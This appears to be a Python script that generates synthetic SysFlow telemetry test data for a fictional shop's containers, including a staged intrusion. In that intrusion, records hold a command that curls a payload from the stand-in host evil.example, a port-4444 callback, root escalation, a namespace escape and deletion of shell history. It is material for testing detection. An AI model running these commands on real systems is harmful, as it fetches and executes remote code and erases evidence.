"""Write the SysFlow sample: ``python -m tests.data.make_sysflow``.

Three minutes of a shop that never was. Types and fields are those of SysFlow's specification
(https://sysflow.readthedocs.io/en/latest/spec.html), every value is invented here.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

from tests.captures.conftest import Record, oid, write_records
from tests.samples import DATA

START = 1_773_039_600_000_000_000  # 2026-03-09 07:00 UTC, in nanoseconds
SECOND = 10**9
EXEC, EXIT, SETUID, SETNS, ACCEPT, CONNECT, OPEN, RECV, SEND, CLOSE = (
    1 << bit for bit in (1, 2, 3, 4, 5, 6, 7, 8, 9, 10)
)
CLONE, MKDIR, UNLINK, SYMLINK, RENAME = 1, 1 << 15, 1 << 18, 1 << 19, 1 << 20
READ, CREATE = 1, 1 << 1 | 1 << 2 | 1 << 8
DIGEST = "@sha256:" + "5e" * 32
BASKET, LEDGER, PAUSE, TOOLS = "b4" * 6, "1e" * 6, "0d" * 6, "70" * 6
PROCESSES = {
    1: (0, "/sbin/init", "", None, 0),
    300: (1, "/usr/bin/containerd-shim", "-namespace moby", None, 0),
    400: (300, "/pause", "", PAUSE, 65535),
    410: (300, "/usr/bin/node", "/app/basket.js", BASKET, 1000),
    520: (300, "/usr/bin/postgres", "-D /data", LEDGER, 70),
    521: (520, "/usr/bin/postgres", "walwriter", LEDGER, 70),
    610: (300, "/bin/sh", "", TOOLS, 0),
}
"""Host pid to parent, program, arguments, container and user of what runs from the start."""
OWNERS = {pid: container for pid, (*_, container, _) in PROCESSES.items()}


def main(folder: Path = DATA / "sysflow") -> Path:
    """Write the file; the same records give the same bytes."""
    options = {"sync_marker": b"rtml: our sample", "sync_interval": 3000}
    return write_records(folder / "shop.sf", story(), **options)


def story() -> Iterator[Record]:
    """Yield the records: who is there, ordinary work, an intrusion, and what none can read."""
    yield from _inventory()
    for second in range(0, 180, 10):
        yield from _work(second)
        if second == 140:
            yield from _intrusion(second + 2)
            yield from _unreadable(second + 8)


def _inventory() -> Iterator[Record]:
    yield "SFHeader", {"version": 4, "exporter": "node-b"}
    pod = "basket-6c9f7d8b5c-m7w2z"
    yield "Pod", {"id": "u1", "name": pod, "namespace": "orders"}
    images = {"basket": f"registry.example.org/orders/basket:3.4.1{DIGEST}", "POD": "pause:3.9"}
    for number, (name, image) in enumerate(images.items()):
        identity = {"id": (BASKET, PAUSE)[number], "podId": "u1", "image": image}
        yield "Container", {"name": f"k8s_{name}_{pod}_orders_u1_0", **identity}
    ledger = {"name": "k8s_ledger_ledger-0_orders_u2_0", "image": "postgres:16"}
    yield "Container", {"id": LEDGER, "imageid": "7a" * 32, **ledger}
    yield "Container", {"id": TOOLS, "name": "toolbox", "image": "alpine:3.20"}
    for pid, (parent, exe, args, container, uid) in PROCESSES.items():
        yield _process(pid, parent, exe, args, container, uid, -60)


def _work(second: int) -> Iterator[Record]:
    """Ten seconds of a basket that asks its ledger, and of a colleague in the toolbox."""
    visitor = {"sip": _ip(10, 40, 0, 9), "sport": 40000 + second, "dport": 8080}
    yield _network(410, second + 1, ACCEPT | RECV | SEND | CLOSE, **visitor)
    yield from _file(410, second + 2, OPEN | RECV | CLOSE, "/app/settings.json", READ)
    ask = {"dip": _ip(10, 40, 1, 20), "dport": 5432, "sport": 50000 + second}
    yield _network(410, second + 3, CONNECT | RECV | SEND | CLOSE, **ask)
    yield from _file(521, second + 4, OPEN | SEND | CLOSE, f"/data/wal/{second // 60:04}", CREATE)
    if second % 30 == 0:
        yield "ProcessFlow", {"procOID": _oid(410), "ts": _at(second + 5)}
        yield from _run(700 + second, 610, second + 6, "/bin/df", "-h", TOOLS)
        yield from _run(701 + second, 410, second + 7, "/bin/sh", "-c date", BASKET)


def _intrusion(second: int) -> Iterator[Record]:
    yield from _run(900, 410, second, "/bin/sh", "-c id; curl -o /tmp/.j evil.example", BASKET, 8)
    yield from _run(901, 900, second + 1, "/usr/bin/id", "", BASKET)
    yield from _run(902, 900, second + 2, "/usr/bin/curl", "-o /tmp/.j evil.example", BASKET, 2)
    stranger = {"dip": _ip(203, 0, 113, 9), "dport": 80, "sport": 51000}
    yield _network(902, second + 3, CONNECT | SEND | RECV | CLOSE, **stranger)
    yield from _file(902, second + 3, OPEN | SEND | CLOSE, "/tmp/.j", CREATE)
    yield from _run(903, 900, second + 4, "/tmp/.j", "", BASKET, 3)
    yield _network(903, second + 5, CONNECT, **stranger | {"dport": 4444})
    yield _event(903, second + 5, SETUID, -1, args=["root"])
    yield from _file(903, second + 5, MKDIR, "/tmp/.k", None)
    there = {"newFileOID": _identity("/tmp/.k", BASKET)}
    yield from _file(903, second + 5, SYMLINK, "/tmp/.log", None, **there)
    yield from _file(903, second + 5, RENAME, "/tmp/.j", None, **there)
    yield from _file(903, second + 6, SETNS, "/proc/1/ns/mnt", READ)
    yield from _file(900, second + 6, CONNECT, "/run/api.sock", 0, restype=ord("u"))
    yield from _file(900, second + 7, UNLINK, "/root/.ash_history", None)


def _unreadable(second: int) -> Iterator[Record]:
    yield "K8sEvent", {"ts": _at(second), "message": "{}"}
    yield "Quantum", {"spin": 1}
    yield "ProcessEvent", {"procOID": _oid(410), "ts": -5}
    yield "ProcessEvent", {"procOID": oid(1 << 40), "ts": _at(second)}


def _run(
    pid: int, parent: int, second: int, exe: str, args: str, container: str, seconds: int = 1
) -> Iterator[Record]:
    """Yield birth, start and end of a program."""
    OWNERS[pid] = container
    yield _event(parent, second, CLONE, pid)
    yield _process(pid, parent, exe, args, container, 1000, second)
    yield _event(pid, second, EXEC, 0, args=args.split())
    yield from _file(pid, second, OPEN | RECV | CLOSE, "/lib/libc.so", READ)
    yield _event(pid, second + seconds, EXIT, 0)


def _process(
    pid: int, parent: int, exe: str, args: str, container: str | None, uid: int, second: int
) -> Record:
    above = _oid(parent) if parent else None
    identity = {"oid": _oid(pid), "poid": above, "containerId": container, "uid": uid}
    entry = parent == 300
    return "Process", identity | {"exe": exe, "exeArgs": args, "ts": _at(second), "entry": entry}


def _event(pid: int, second: int, operation: int, ret: int, **more: object) -> Record:
    given = {"procOID": _oid(pid), "ts": _at(second), "tid": pid, "opFlags": operation, "ret": ret}
    return "ProcessEvent", given | more


def _network(pid: int, second: int, operations: int, **address: int) -> Record:
    volume = {"numRRecvOps": 2, "numWSendOps": 3, "numRRecvBytes": 512, "numWSendBytes": 2048}
    head = {"procOID": _oid(pid), "ts": _at(second), "tid": pid, "opFlags": operations}
    return "NetworkFlow", head | volume | address


def _file(
    pid: int,
    second: int,
    operations: int,
    path: str,
    flags: int | None,
    restype: int = ord("f"),
    **more: object,
) -> Iterator[Record]:
    """Yield a file and what was done with it: a flow with open flags, an event without."""
    identity = _identity(path, OWNERS[pid])
    yield "File", {"oid": identity, "restype": restype, "path": path}
    head = {"procOID": _oid(pid), "ts": _at(second), "tid": pid, "opFlags": operations}
    if flags is None:
        yield "FileEvent", head | {"fileOID": identity} | more
    else:
        yield "FileFlow", head | {"fileOID": identity, "openFlags": flags, "numWSendOps": 1}


def _oid(pid: int) -> dict[str, int]:
    return oid(pid, START)


def _at(second: float) -> int:
    return START + int(second * SECOND)


def _identity(path: str, container: str | None) -> bytes:
    return hashlib.sha1(f"{container}{path}".encode()).digest()


def _ip(*parts: int) -> int:
    """Pack an address as SysFlow does: the first byte lowest, the word signed."""
    return int.from_bytes(bytes(parts), "little", signed=True)


if __name__ == "__main__":
    main()
